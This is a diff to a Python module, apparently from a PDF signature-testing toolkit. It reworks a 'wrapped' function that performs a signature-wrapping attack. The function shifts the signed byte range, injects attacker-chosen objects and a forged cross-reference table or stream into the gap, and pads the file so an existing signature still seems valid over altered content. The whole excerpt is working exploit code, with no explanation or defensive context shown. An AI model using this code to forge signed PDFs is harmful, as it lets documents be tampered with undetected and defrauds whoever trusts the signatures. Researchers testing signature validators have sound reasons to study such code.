@@ -74,22 +74,34 @@ def sign_new(pdf, signer, visible=False, extra=b"", **how):
     return sign(pdf, signer, changes, number, extra=extra, **how)
 
 
-def wrapped(pdf, signer, in_gap, keep_contents=True, contents=None):
-    """Signature wrapping: the second signed part moves back, the gap grows by what `in_gap` makes.
+def wrapped(data, evil, hole=None, fake=None, pad=b"\n", spare=0, kind="table"):
+    """Signature wrapping: the second signed part moves back, and the gap before it takes other objects.
 
-    The signed part ends with a startxref; what stands at that offset in the gap is another cross-reference.
+    The signed part ends with its startxref; what stands at that offset in the gap is the attacker's cross-reference.
     """
-    first, gap, after, rest = span(pdf.data, len(pdf.data) - len(pdf.tail))
-    del first, rest
-    head, hole, tail = pdf.data[:gap], pdf.data[gap:after], pdf.data[after:]
-    hole = (contents or hole) if keep_contents else b"<00>"
+    gap, after = span(data, data.rindex(b"/Type /Sig"))[1:3]
+    head, tail = data[:gap], data[after:]
+    pdf = Pdf(data)
+    number = int(re.findall(rb"(\d+) 0 obj", head)[-1])
     dictionary = re.match(rb" ?/ByteRange \[[^\]]*\](.*?)>>\nendobj\n", tail, re.S).group(1)
-    for moved in range(len(pdf.data) + 40000, len(pdf.data) + 40001):
-        numbers = (b"%d" % gap, b"%d" % moved, b"%d" % len(tail))
-        fake = b" /ByteRange [0 " + b" ".join(n.ljust(10) for n in numbers) + b"]" + dictionary + b">>\nendobj\n"
-        start = head + hole + fake
-        middle = in_gap(len(start))
-        space = moved - len(start) - len(middle)
-        assert space > 0
-        return start + middle + b"\n" * space + tail
-    return None
+    objects = {int(n): body.strip() for n, body in forge_pdf.OBJECT.findall(tail) if b"0" * 99 not in body}
+    objects.update(evil)
+    moved = pdf.startxref + 4000
+    fake = fake or b" /ByteRange [0 %d %d %d]"
+    out = head + (data[gap:after] if hole is None else hole) + fake % (gap, moved, len(tail))
+    out += b" " + dictionary + b">>\nendobj\n"
+    rows = {number: data.rindex(b"%d 0 obj" % number, 0, gap)}
+    for n, body in objects.items():
+        rows[n] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
+    assert len(out) <= pdf.startxref
+    out += b"\n" * (pdf.startxref - len(out))
+    previous = int(re.findall(rb"/Prev (\d+)", data)[-1])
+    trailer = b"/Size %d /Root 1 0 R /Info 19 0 R /Prev %d %s" % (pdf.size, previous, forge_pdf.IDENTITY)
+    if kind == "stream":
+        rows = {n: (1, at, 0) for n, at in {**rows, pdf.size: len(out)}.items()}
+        out += forge_pdf.xref_stream(pdf.size, rows, trailer.replace(b"%d" % pdf.size, b"%d" % (pdf.size + 1), 1))
+    else:
+        out += forge_pdf.table(rows) + b"trailer\n<<%s>>\n" % trailer
+    assert len(out) <= moved
+    return out + pad * (moved - len(out)) + tail + b"\n" * spare
